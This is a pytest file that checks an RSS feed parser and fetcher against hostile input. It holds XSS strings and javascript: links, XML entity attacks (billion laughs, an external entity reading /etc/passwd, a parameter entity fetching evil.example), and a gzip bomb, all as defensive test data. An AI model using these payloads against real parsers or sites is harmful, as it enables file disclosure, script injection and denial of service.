"""RSS provider: a real feed and feedparser's hostile test feeds through the pure parser, then
the real HttpClient against the loopback upstream for isolation, size caps and hangs."""

from __future__ import annotations

import gzip
import io
import re
import time
from datetime import UTC, datetime

import feedparser
import pytest

from config.schema import Instrument, RecordKind
from providers import rss as rss_module
from providers.base import Request
from providers.errors import BadPayload, EmptyResult, NotConfigured, RateLimited, Unavailable
from providers.models import Headline
from providers.rss import (
    RssProvider,
    clean_text,
    defuse_charrefs,
    newest_unique,
    parse_feed,
    read_feed,
    safe_link,
)
from tests.support import paths

FIXTURES = paths.FIXTURES / "rss"
GUARDIAN = (FIXTURES / "news" / "guardian_us_2018-01-31.rss").read_bytes()
HOSTILE = FIXTURES / "feedparser"
LARGE_ATOM = "large_atom_feed_that_needs_css_sanitisation.xml"
NOW = datetime(2018, 2, 1, tzinfo=UTC)  # the morning after the Guardian feed was fetched
# "script" as a tag or a word: the crazy fixture's visible text says "Did The Javascript Execute?"
BAD = re.compile(r"<|\bscript\b|javascript:|onclick|onload|onmouseover|alert\(", re.I)


def rss(*items: str, channel: str = "") -> bytes:
    """A small RSS 2.0 document around the given <item> bodies."""
    body = "".join(f"<item>{item}</item>" for item in items)
    head = '<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
    return f"{head}{channel}{body}</channel></rss>".encode()


def item(title: str, when: str = "Wed, 31 Jan 2018 10:00:00 GMT", link: str = "") -> str:
    """The body of one RSS <item>."""
    link_tag = f"<link>{link}</link>" if link else ""
    return f"<title>{title}</title><pubDate>{when}</pubDate>{link_tag}"


def test_guardian_feed_gives_every_distinct_item_newest_first():
    heads = parse_feed(GUARDIAN, source="Guardian US", now=NOW, limit=100)
    assert len(heads) == 55  # 55 items, no repeated title or link
    assert [h.published for h in heads] == sorted((h.published for h in heads), reverse=True)
    assert heads[0].title == "Tottenham Hotspur v Manchester United: Premier League \u2013 live!"
    assert heads[0].published == datetime(2018, 1, 31, 20, 13, 54, tzinfo=UTC)
    sotu = next(h for h in heads if h.title.startswith("Trump State of the Union address"))
    assert sotu.published == datetime(2018, 1, 31, 7, 26, 5, tzinfo=UTC)
    assert str(sotu.link).endswith(
        "/2018/jan/31/donald-trump-state-of-the-union-address-unity-discord"
    )
    assert heads[-1].published == datetime(2017, 12, 8, 12, 0, 2, tzinfo=UTC)
    assert {(h.link.scheme, h.link.host) for h in heads} == {("https", "www.theguardian.com")}
    assert {h.source for h in heads} == {"Guardian US"}  # not the feed's own "The Guardian"
    by_default = parse_feed(GUARDIAN, source="Guardian US", now=NOW)
    assert by_default == heads[:30]  # the newest 30 per feed


def test_guardian_html_description_becomes_plain_text():
    entry = feedparser.parse(io.BytesIO(GUARDIAN), sanitize_html=False).entries[0]
    text = clean_text(entry.description, 200)
    assert text.startswith(
        "The president\u2019s \u2018new American moment\u2019 speech stirred Republican applause"
    )
    assert "contempt Donald Trump has promised" in text  # </p><p> became a space
    assert len(text) <= 200 and text.endswith("…") and not BAD.search(text)


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("&lt;script&gt;alert(1)&lt;/script&gt;Rates up", "Rates up"),
        ("&amp;lt;b&amp;gt;Fed&amp;lt;/b&amp;gt; holds", "Fed holds"),
        ("S&amp;P 500 &lt;5% <i>up</i>", "S&P 500 <5% up"),  # plain text may hold a "<"
        ("a\u202eevil\u200b\x00\x07 b\t\n\n c", "aevil b c"),
        ("&amp;amp;amp;amp;amp;amp;amp;amp;lt;b&amp;amp;amp;amp;amp;amp;amp;amp;gt;", ""),
    ],
)
def test_clean_text(raw, expected):
    assert clean_text(raw, 200) == expected


def test_clean_text_cuts_at_a_word_boundary():
    assert clean_text("alpha beta gamma delta", 15) == "alpha beta…"
    assert clean_text("x" * 50, 10) == "x" * 9 + "…"


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        " JaVaScRiPt:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "/relative/path",
        "//evil.example/x",
        "http://",
        "https://bank.example@evil.example/",
        "ftp://x.example/",
        "http://exa mple.com/",
        "http:javascript:alert(1)",
        None,
        42,
    ],
)
def test_unsafe_links_are_dropped(link):
    assert safe_link(link) is None


def test_safe_links_are_kept():
    assert safe_link(" https://example.com/a?b=1 ") == "https://example.com/a?b=1"
    assert safe_link("http://example.com") == "http://example.com"


def test_javascript_and_data_links_in_a_feed_become_none():
    data = rss(item("One", link="javascript:alert(1)"), item("Two", link="data:text/html,x"))
    assert [(h.title, h.link) for h in parse_feed(data, source="S", now=NOW)] == [
        ("One", None),
        ("Two", None),
    ]


def transplant(name: str) -> bytes:
    """The fixture with its hostile <content> moved into the title, plus a date and a bad link."""
    raw = (HOSTILE / name).read_text()
    extra = '<modified>2018-01-31T10:00:00Z</modified><link rel="alternate" href="javascript:x"/>'
    return raw.replace("<content", "<title").replace("</content>", "</title>" + extra).encode()


@pytest.mark.parametrize(
    ("name", "title"),
    [
        (
            "entry_content_crazy.xml",
            "Crazy HTML -- Can Your Regex Parse This? Did The Javascript "
            "Execute? I will execute here, too, if you mouse over me",
        ),
        ("entry_content_script_inline.xml", "safe description"),
        ("entry_content_onclick.xml", None),  # an image and nothing else: no title text
    ],
)
def test_hostile_markup_in_titles_is_reduced_to_text(name, title):
    with pytest.raises(EmptyResult):  # as recorded: content only, no title or date
        parse_feed((HOSTILE / name).read_bytes(), source="S", now=NOW)
    if title is None:
        with pytest.raises(EmptyResult):
            parse_feed(transplant(name), source="S", now=NOW)
        return
    [head] = parse_feed(transplant(name), source="S", now=NOW)
    assert (head.title, head.link) == (title, None) and not BAD.search(head.title)


@pytest.mark.parametrize("name", sorted(p.name for p in HOSTILE.iterdir()))
def test_no_hostile_content_survives_clean_text(name):
    parsed = feedparser.parse((HOSTILE / name).open("rb"), sanitize_html=False)
    texts = [c.value for e in parsed.entries for c in e.get("content", [])]
    texts += [e.get("title", "") for e in parsed.entries]
    assert all(not BAD.search(clean_text(t, 10_000)) for t in texts)


def test_large_atom_feed_parses_fast_with_real_titles():
    started = time.perf_counter()
    heads = parse_feed((HOSTILE / LARGE_ATOM).read_bytes(), source="S", now=NOW)
    assert time.perf_counter() - started < 0.5
    assert len(heads) == 15 and heads[0].title == "Невидимая броня для Вашего Nokia 5800"
    assert heads[0].published == datetime(2009, 9, 9, 14, 19, 45, tzinfo=UTC)


def test_incomplete_cdata_fails_cleanly_and_fast_and_keeps_good_items_before_it():
    raw = (HOSTILE / "rss_incomplete_cdata.xml").read_bytes()
    started = time.perf_counter()
    with pytest.raises(EmptyResult):
        parse_feed(raw, source="S", now=NOW)
    good = raw.replace(
        b"<item><title><![CD", b"<item>" + item("Good").encode() + b"</item><item><title><![CD"
    )
    assert [h.title for h in parse_feed(good, source="S", now=NOW)] == ["Good"]
    assert time.perf_counter() - started < 1


LOL = (
    '<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(
        f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("bcdefgh", "cdefghi", strict=True)
    )
    + "]>"
)


@pytest.mark.parametrize(
    "data",
    [
        rss(item("&i;")).replace(b"<rss", LOL.encode() + b"<rss"),  # billion laughs
        rss(item("&x;")).replace(
            b"<rss", b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss'
        ),
        rss(item("x")).replace(
            b"<rss", b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><rss'
        ),
        rss(item("x")).replace(b"<rss", b'<!doctype r [<!attlist rss a CDATA "x">]><rss'),
        rss(item("&a;"))
        .decode()
        .replace("<rss", '<!DOCTYPE r [<!ENTITY a "x">]><rss')
        .encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "internal-subset", "utf-16"],
)
def test_feeds_declaring_entities_are_refused(data):
    with pytest.raises(BadPayload, match="feed declares XML entities; refused"):
        parse_feed(data, source="S", now=NOW)


def test_an_external_doctype_without_a_subset_is_fine():  # RSS 0.91 feeds carry one
    dtd = (
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        b'"http://my.netscape.com/publish/formats/rss-0.91.dtd"><rss'
    )
    assert len(parse_feed(rss(item("Ok")).replace(b"<rss", dtd), source="S", now=NOW)) == 1


@pytest.mark.parametrize(
    "ref",
    ["&#xD83D;", "&#55357;", "&#x110000;", "&#99999999999999999999;", "&#" + "1" * 5000 + ";"],
    ids=["surrogate-hex", "surrogate-decimal", "past-unicode", "huge", "5000-digits"],
)
def test_a_reference_to_no_character_is_a_replacement_character_not_a_lost_feed(ref):
    # feedparser's loose parser raised on each (chr, encode, int): every item of the feed lost.
    data = rss(item(f"A {ref} B"), item("Other", "Wed, 31 Jan 2018 09:00:00 GMT"))
    assert [h.title for h in parse_feed(data, source="S", now=NOW)] == ["A \ufffd B", "Other"]


def test_valid_character_references_keep_their_meaning():
    zeros = b"0" * 5000  # int() refuses 4,300+ digits: written without them
    assert defuse_charrefs(b"&#65;&#X42;&#x" + zeros + b"3c;&#" + zeros + b"38;") == (
        b"&#65;&#66;&#60;&#38;"
    )
    data = rss(item(f"x &#{'0' * 5000}65; &#x1F4C8; &amp;#xD800; y"))
    assert [h.title for h in parse_feed(data, source="S", now=NOW)] == ["x A \U0001f4c8 \ufffd y"]


def test_dates_dedupe_and_feed_date_fallback():
    data = rss(
        item("Clock skew", "Thu, 01 Feb 2018 00:04:00 GMT"),  # NOW + 4 min: tolerated
        item("Far future", "Thu, 01 Feb 2018 00:06:00 GMT"),  # NOW + 6 min: dropped
        item("Rates  UP", link="https://x.example/1"),
        item("rates up", "Wed, 31 Jan 2018 09:00:00 GMT", link="https://x.example/2"),
        item("Other", "Wed, 31 Jan 2018 08:00:00 GMT", link="https://x.example/1"),
        "<title>Undated</title>",
        channel="<pubDate>Wed, 31 Jan 2018 11:00:00 GMT</pubDate>",
    )
    heads = parse_feed(data, source="S", now=NOW)
    assert [h.title for h in heads] == ["Clock skew", "Undated", "Rates UP"]
    assert heads[1].published == datetime(2018, 1, 31, 11, tzinfo=UTC)  # the channel's date
    with pytest.raises(EmptyResult):  # no entry date and no feed date: skipped, not "now"
        parse_feed(rss("<title>Undated</title>"), source="S", now=NOW)
    with pytest.raises(BadPayload, match="future"):
        parse_feed(rss(item("Later", "Fri, 02 Feb 2018 00:00:00 GMT")), source="S", now=NOW)


def test_newest_unique_caps_the_merged_list():
    heads = [
        Headline(
            title=f"h{i}", source="S", published=datetime(2018, 1, 1, i % 24, i % 60, tzinfo=UTC)
        )
        for i in range(80)
    ]
    kept = newest_unique(heads, 50)
    assert len(kept) == 50 and kept == sorted(heads, key=lambda h: h.published, reverse=True)[:50]


@pytest.mark.parametrize(
    "body", [b"", b"<html><body><p>Sorry</p></body></html>", b'{"a": 1}', b"\x00\xff" * 10]
)
def test_garbage_is_bad_payload(body):
    with pytest.raises(BadPayload):
        parse_feed(body, source="S", now=NOW)


def test_a_body_that_names_a_local_file_is_not_opened(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_bytes(rss(item("SECRET")))
    with pytest.raises(BadPayload):  # feedparser.parse(bytes) would open() this path
        parse_feed(str(secret).encode(), source="S", now=NOW)


# --- through load, with the real HttpClient against the loopback upstream ---------------


@pytest.fixture
def provider(make_settings):
    settings = make_settings(
        refresh={"deadline_s": 0.5},
        providers={"rss": {"requests_per_second": 50, "max_bytes": 1024 * 1024}},
    )
    return RssProvider(settings)


def load(provider, upstream, *paths: str):
    insts = tuple(
        Instrument(id=f"f{i}", name=f"Feed {i}", symbols={"rss": upstream.url + p})
        for i, p in enumerate(paths)
    )
    return provider.load(
        Request(dataset="news", kind=RecordKind.HEADLINE, instruments=insts, now=NOW)
    )


def test_failing_or_hung_feeds_are_problems_and_the_other_feeds_are_merged(
    provider, upstream, monkeypatch
):
    upstream.route("/g.rss", body=GUARDIAN, headers={"Content-Type": "application/rss+xml"})
    upstream.route("/atom.xml", body=(HOSTILE / LARGE_ATOM).read_bytes())
    upstream.route("/down.xml", status=500)
    upstream.route("/hang.xml", hang=True)
    host = upstream.url.removeprefix("http://")
    started = time.perf_counter()
    batch = load(provider, upstream, "/g.rss", "/down.xml", "/missing.xml", "/hang.xml")
    assert time.perf_counter() - started < 0.5  # the hung feed is left behind at 0.4 s
    assert len(batch.records) == 30 and {r.source for r in batch.records} == {"Feed 0"}
    assert batch.problems == [
        f"f1: {host} answered HTTP 500",
        f"f2: {host} answered 404 (not found)",
        "f3: no answer within 0.4 s",
    ]
    # The hung fetch still holds its feed: the next load does not start a second one.
    again = load(provider, upstream, "/g.rss", "/down.xml", "/missing.xml", "/hang.xml")
    assert again.problems[-1] == "f3: an earlier fetch is still running"
    merged = load(provider, upstream, "/g.rss", "/atom.xml").records
    assert len(merged) == 45 and merged[0].source == "Feed 0" and merged[-1].source == "Feed 1"
    real_read = rss_module.read_feed

    def crash_on_atom(data, *, source, now):  # a parser bug on one feed spares the others
        return real_read(data, source=source, now=now) if source == "Feed 0" else 1 / 0

    monkeypatch.setattr(rss_module, "read_feed", crash_on_atom)
    batch = load(provider, upstream, "/g.rss", "/atom.xml")
    assert batch.problems == ["f1: unreadable feed (ZeroDivisionError)"]


def test_a_malformed_feed_that_still_gives_items_shows_them_and_says_it_is_malformed(
    provider, upstream
):
    # The Guardian feed cut off after its 27th item (its body ends mid-element): feedparser's
    # loose parser reads what came before (`bozo`), which the board shows, with a note.
    cut = GUARDIAN[: GUARDIAN.index(b"<item>", len(GUARDIAN) // 2)] + b"<item><title>Half"
    feed = read_feed(cut, source="Guardian US", now=NOW, limit=100)
    assert len(feed.headlines) == 27
    assert feed.malformed is not None and feed.malformed.startswith("no element found at line")
    assert parse_feed(cut, source="Guardian US", now=NOW, limit=100) == feed.headlines
    assert read_feed(GUARDIAN, source="Guardian US", now=NOW).malformed is None
    mismatched = rss(item("First"), item("Second <b>bold"))
    assert read_feed(mismatched, source="S", now=NOW).malformed == "mismatched tag at line 1"

    upstream.route("/cut.rss", body=cut, headers={"Content-Type": "application/rss+xml"})
    upstream.route("/g.rss", body=GUARDIAN, headers={"Content-Type": "application/rss+xml"})
    batch = load(provider, upstream, "/g.rss", "/cut.rss")
    assert {r.source for r in batch.records} == {"Feed 0", "Feed 1"}
    [problem] = batch.problems
    assert problem.startswith("f1: malformed feed (no element found at line ")
    assert problem.endswith("); 27 item(s) read from it are shown")


def test_a_malformed_feed_note_reaches_the_status_api_with_the_dataset_ok(make_settings, upstream):
    from cachelib import SimpleCache

    from components.status import status_table
    from engine.board import Board
    from engine.refresher import Refresher
    from engine.store import SnapshotStore

    cut = GUARDIAN[: GUARDIAN.index(b"<item>", len(GUARDIAN) // 2)]
    upstream.route("/cut.rss", body=cut, headers={"Content-Type": "application/rss+xml"})
    settings = make_settings(providers={"rss": {"requests_per_second": 50}})
    news = settings.datasets["news"].model_copy(
        update={
            "instruments": [
                Instrument(
                    id="guardian", name="Guardian", symbols={"rss": upstream.url + "/cut.rss"}
                )
            ]
        }
    )
    settings = settings.model_copy(update={"datasets": {**settings.datasets, "news": news}})
    store = SnapshotStore(SimpleCache(), namespace="open", persist_dir=None)
    refresher = Refresher(settings, {"rss": RssProvider(settings)}, store, clock=lambda: NOW)
    refresher.refresh("news")
    status = Board(settings, store, refresher, clock=lambda: NOW).dataset_status("news")
    assert (status["status"], status["source"], status["records"]) == ("ok", "rss", 27)
    assert status["error"].startswith("guardian: malformed feed (no element found at line ")
    table = str(status_table(Board(settings, store, refresher, clock=lambda: NOW)))
    assert "guardian: malformed feed (no element found" in table


def failing() -> dict:
    """path: (route, error). Built when used: the 50 MB bodies stay out of test collection."""
    return {
        "/500": ({"status": 500}, Unavailable),
        "/429": ({"status": 429, "headers": {"Retry-After": "7"}}, RateLimited),
        "/cut": ({"body": GUARDIAN, "truncate": True}, Unavailable),
        "/html": ({"body": b"<html>maintenance</html>"}, BadPayload),
        "/lol": ({"body": rss(item("&i;")).replace(b"<rss", LOL.encode() + b"<rss")}, BadPayload),
        "/50mb": ({"body": b" " * 50_000_000}, BadPayload),  # over the cap: refused unread
        "/gzip-bomb": (
            {"body": gzip.compress(b" " * 50_000_000, 1), "headers": {"Content-Encoding": "gzip"}},
            BadPayload,
        ),
    }


def test_every_feed_failing_raises_the_most_telling_error(provider, upstream):
    # One server for every case: its shutdown costs half a second.
    for path, (route, error) in failing().items():
        upstream.route(path, **route)
        started = time.perf_counter()
        with pytest.raises(error) as caught:
            load(provider, upstream, path)
        assert time.perf_counter() - started < 0.5, path
        assert type(caught.value) is error, path
        assert path not in ("/50mb", "/gzip-bomb") or "over" in str(caught.value)
        assert path != "/lol" or "feed declares XML entities; refused" in str(caught.value)
    with pytest.raises(RateLimited, match="f1") as caught:  # outranks the 500 and the bomb
        load(provider, upstream, "/500", "/429", "/lol")
    assert caught.value.retry_after_s == 7


def test_load_refuses_non_http_urls(provider):
    inst = Instrument(id="x", name="X", symbols={"rss": "file:///etc/passwd"})
    request = Request(dataset="news", kind=RecordKind.HEADLINE, instruments=(inst,), now=NOW)
    with pytest.raises(NotConfigured):
        provider.load(request)
